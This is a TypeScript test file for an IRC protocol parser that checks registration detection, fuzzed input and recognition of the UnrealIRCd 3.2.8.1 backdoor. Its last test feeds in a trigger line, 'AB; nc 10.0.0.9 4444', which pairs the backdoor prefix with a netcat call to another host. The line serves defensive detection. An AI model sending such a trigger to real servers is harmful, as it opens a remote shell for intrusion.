import assert from 'node:assert/strict'
import { test } from 'node:test'
import { mangled } from '#bytes/mangle'
import { factsOf, sliceOf, tryOut } from '#model/test-slice'
import { say } from './captures/script.ts'
import { protocol } from './index.ts'

const isStream = true
const ask = (text: string) => protocol.probe?.(sliceOf(say(text), { isStream }))

test('tells who joins what', () => {
  const said = factsOf(
    protocol,
    say('NICK bot1\r\nUSER a 0 * :b\r\nJOIN #x\r\nPRIVMSG #x :secret words\r\n'),
    { isStream },
  )
  assert.deepEqual(
    said.map((fact) =>
      fact.kind === 'session' ? fact.user : fact.kind === 'operation' && `${fact.code} ${fact.object}`,
    ),
    ['bot1', 'JOIN #x', 'PRIVMSG #x'],
  )
})

test('a registration proves it; a logon of FTP or POP does not', () => {
  assert.deepEqual(
    ['NICK bot\r\nUSER a 0 * :b\r\n', 'NICK bot\r\n', 'USER anonymous\r\n', 'PASS secret\r\n'].map(ask),
    ['yes', 'more', 'no', 'no'],
  )
})

test('the name may come last', () => {
  assert.deepEqual(['USER a +iw b :c d\r\n', 'USER a +iw b :c d\r\nNICK bot\r\n'].map(ask), ['more', 'yes'])
})

test('hostile lines end', () => {
  for (const bytes of mangled(say(':a 001 b :c\r\nJOIN #x\r\n')))
    tryOut(protocol, [sliceOf(bytes, { isStream })])
})

test('the back door of UnrealIRCd is told, and nothing of what it should run', () => {
  assert.deepEqual(factsOf(protocol, say('AB; nc 10.0.0.9 4444\r\n'), { isStream }), [
    {
      kind: 'anomaly',
      what: 'exploit',
      about: 'client',
      detail: 'opens the back door of UnrealIRCd 3.2.8.1 (CVE-2010-2075)',
    },
  ])
})
